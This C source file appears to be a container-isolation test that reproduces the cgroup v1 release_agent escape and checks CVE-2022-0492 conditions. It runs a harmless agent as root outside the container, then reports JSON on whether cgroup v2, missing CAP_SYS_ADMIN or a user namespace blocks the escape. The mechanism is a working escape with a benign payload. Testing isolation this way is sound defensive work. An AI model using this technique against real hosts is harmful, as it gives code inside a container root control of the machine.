/*
 * A release agent: in version 1 of control groups a hierarchy has a file that names a program. The kernel starts it when the
 * last process of a group has gone, as root of the outside, whatever namespaces the group's processes were in.
 *
 * Shown: version 2 has no such file; a container that may mount a hierarchy of version 1 writes the name, empties a
 * group, and its program runs outside; one without CAP_SYS_ADMIN cannot mount it; one that makes itself a user
 * namespace for that can mount the hierarchy that is there, and not write the name (CVE-2022-0492).
 *
 *   agent      this program again: it writes down which group was released
 *   proof      what it wrote
 *   place/     where a container's root is mounted; the hierarchy is at /groups in it
 *
 * The hierarchy has a name of its own and no controller, so that those of version 2 stay as they are. Runs as root of a machine
 * with a kernel of its own. Man pages: cgroups(7), cgroup_namespaces(7), user_namespaces(7), capabilities(7), mount(2).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/capability.h>
#include <signal.h>
#include <stdlib.h>
#include <time.h>

#include "../newroot.h"

enum kind { ADMIN, WITHOUT_ADMIN, OWN_USER_NAMESPACE };
enum { TURNS = 2000, TURN_MS = 10 };

struct container {
    pid_t pid;
    int ready, go; /* it has emptied its groups; it may take them away */
};

static char own[200], hierarchy[64];

/* 0 or an errno. */
static int write_text(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd == -1)
        return errno;
    int error = write(fd, text, strlen(text)) == (ssize_t)strlen(text) ? 0 : errno;
    close(fd);
    return error;
}

/* --- The agent, started by the kernel with the group's name ------------------------------------------------------ */

static int be_agent(const char *program, const char *group)
{
    char path[sizeof own + 32];
    const char *slash = strrchr(program, '/');
    snprintf(path, sizeof path, "%.*s/proof", (int)(slash - program), program);
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
    if (fd == -1 || dprintf(fd, "%s as %s\n", group, geteuid() == 0 ? "root" : "another user") < 0)
        return 1;
    return close(fd) == 0 ? 0 : 1;
}

/* --- The container ----------------------------------------------------------------------------------------------- */

static void drop_admin(void)
{
    struct __user_cap_header_struct who = {.version = _LINUX_CAPABILITY_VERSION_3};
    struct __user_cap_data_struct sets[2];
    if (syscall(SYS_capget, &who, sets) == -1)
        die("capget");
    sets[0].effective &= ~(1u << CAP_SYS_ADMIN);
    sets[0].permitted &= ~(1u << CAP_SYS_ADMIN);
    if (syscall(SYS_capset, &who, sets) == -1)
        die("capset");
}

static int mount_hierarchy(void)
{
    if (mkdir("/groups", 0755) == -1 && errno != EEXIST)
        die("/groups");
    return mount("cgroup", "/groups", "cgroup", 0, hierarchy) == -1 ? errno : 0;
}

/* One process joins, and ends. */
static void make_and_empty(const char *group, bool notify)
{
    char file[128];
    if (mkdir(group, 0755) == -1)
        die(group);
    snprintf(file, sizeof file, "%s/notify_on_release", group);
    if (write_text(file, notify ? "1" : "0") != 0)
        die(file);
    snprintf(file, sizeof file, "%s/cgroup.procs", group);
    pid_t member = start_child();
    if (member == 0)
        _exit(write_text(file, "0"));
    if (wait_for(member) != 0)
        die(file);
}

static _Noreturn void attack(enum kind kind, int ready, int go)
{
    char agent[sizeof own + 16];
    enter_new_root("place");
    if (kind != ADMIN)
        drop_admin();
    if (kind == OWN_USER_NAMESPACE) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == -1)
            _exit(errno);
        map_root(0);
    }
    int error = mount_hierarchy();
    if (error != 0)
        _exit(error);
    tell(ready); /* mounted */
    snprintf(agent, sizeof agent, "%s/agent", own);
    error = write_text("/groups/release_agent", agent);
    if (error != 0)
        _exit(error);
    make_and_empty("/groups/quiet", false);
    make_and_empty("/groups/loud", true);
    tell(ready);
    if (!hear(go) || rmdir("/groups/quiet") == -1 || rmdir("/groups/loud") == -1)
        die("the groups");
    _exit(0);
}

static struct container start_container(enum kind kind)
{
    int ready[2], go[2];
    if (pipe2(ready, O_CLOEXEC) == -1 || pipe2(go, O_CLOEXEC) == -1)
        die("pipe2");
    pid_t pid = start_child();
    if (pid == 0) {
        close(ready[0]);
        close(go[1]);
        if (unshare(CLONE_NEWNS | CLONE_NEWPID) == -1)
            _exit(errno);
        pid_t inside = start_child();
        if (inside == 0)
            attack(kind, ready[1], go[0]);
        close(ready[1]);
        _exit(WEXITSTATUS(wait_for(inside)));
    }
    close(ready[1]);
    close(go[0]);
    return (struct container){.pid = pid, .ready = ready[0], .go = go[1]};
}

static const char *end_container(struct container *container)
{
    close(container->ready);
    close(container->go);
    return verdict(WEXITSTATUS(wait_for(container->pid)));
}

/* --- The outside ------------------------------------------------------------------------------------------------- */

/* "no" if the agent did not come; what it wrote otherwise. It comes by itself, some time later. */
static const char *wait_for_proof(void)
{
    static char text[256];
    const struct timespec turn = {.tv_nsec = TURN_MS * 1000000};
    for (int i = 0; i < TURNS; i++) {
        int fd = open("proof", O_RDONLY | O_CLOEXEC);
        ssize_t got = fd == -1 ? 0 : read(fd, text, sizeof text - 1);
        if (fd != -1)
            close(fd);
        if (got > 0 && text[got - 1] == '\n') {
            text[got - 1] = '\0';
            return text;
        }
        nanosleep(&turn, NULL);
    }
    return "no";
}

static void make_agent(void)
{
    if ((unlink("agent") == -1 && errno != ENOENT) || (unlink("proof") == -1 && errno != ENOENT) ||
        link("release", "agent") == -1)
        die("agent");
}

static const char *in_version_2(void)
{
    pid_t child = start_child();
    if (child == 0) {
        if (unshare(CLONE_NEWNS) == -1)
            _exit(errno);
        if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) == -1 ||
            mount("cgroup2", "place", "cgroup2", 0, NULL) == -1 || access("place/cgroup.procs", R_OK) == -1)
            die("cgroup2");
        int error = write_text("place/release_agent", own);
        if (umount2("place", MNT_DETACH) == -1)
            die("place");
        _exit(error);
    }
    return verdict(WEXITSTATUS(wait_for(child)));
}

int main(int argc, char *argv[])
{
    const char *name = strrchr(argv[0], '/');
    if (argc == 2 && name != NULL && strcmp(name, "/agent") == 0)
        return be_agent(argv[0], argv[1]);
    if (getcwd(own, sizeof own) == NULL || (mkdir("place", 0755) == -1 && errno != EEXIST))
        die("setting up");
    snprintf(hierarchy, sizeof hierarchy, "none,name=isolab-%d", (int)getpid());
    make_agent();
    printf("{\"version_2\": \"%s\"", in_version_2());
    fflush(stdout);
    struct container plain = start_container(WITHOUT_ADMIN);
    printf(", \"without_admin\": \"%s\"", end_container(&plain));
    fflush(stdout);
    struct container first = start_container(ADMIN);
    bool mounted = hear(first.ready), emptied = mounted && hear(first.ready);
    const char *ran = emptied ? wait_for_proof() : "no";
    printf(", \"ran_outside\": \"%s\"", ran);
    fflush(stdout);
    /* The first one's hierarchy is there still: only such a one can be mounted in a user namespace. */
    struct container second = start_container(OWN_USER_NAMESPACE);
    bool mounted_too = hear(second.ready);
    printf(", \"mounted_in_user_namespace\": %s", json_bool(mounted_too));
    printf(", \"user_namespace\": \"%s\"", end_container(&second));
    fflush(stdout);
    if (emptied)
        tell(first.go);
    printf(", \"admin\": \"%s\"}\n", end_container(&first));
    return 0;
}
